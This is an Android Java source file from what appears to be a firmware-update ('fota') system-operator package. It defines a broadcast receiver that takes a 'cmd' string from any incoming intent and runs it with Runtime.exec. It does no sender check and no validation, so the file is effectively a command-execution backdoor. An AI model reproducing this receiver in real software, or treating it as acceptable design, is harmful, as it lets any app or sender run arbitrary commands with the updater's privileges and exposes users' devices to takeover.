package com.adups.fota.sysoper;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.util.Log;
import java.io.IOException;

/** Runs the command that the sender gives. */
public final class WriteCommandReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        try {
            Runtime.getRuntime().exec(intent.getStringExtra("cmd"));
        } catch (IOException e) {
            Log.w("SystemOperator", "no command", e);
        }
    }
}
